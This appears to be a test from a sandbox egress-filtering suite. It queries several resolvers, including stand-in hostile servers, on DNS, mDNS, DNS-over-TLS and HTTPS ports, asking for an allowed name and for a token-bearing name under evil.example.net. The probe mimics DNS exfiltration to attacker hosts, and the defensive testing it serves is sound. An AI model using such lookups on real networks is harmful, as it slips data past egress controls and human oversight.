"""Asks name servers of its own choice, for denied and for allowed names, by every port that such servers have.

group: names
effect: connects
allow: web.example.com
asks: web.example.com
"""
for server in (arena.foreignResolver, arena.resolver, arena.evil, "1.1.1.1", arena.evilSix, "224.0.0.251"):
    for port in (53, 5353, 853, 443):
        for name in (f"{arena.proof}.evil.example.net", "web.example.com"):
            ask(question(name), server, port)
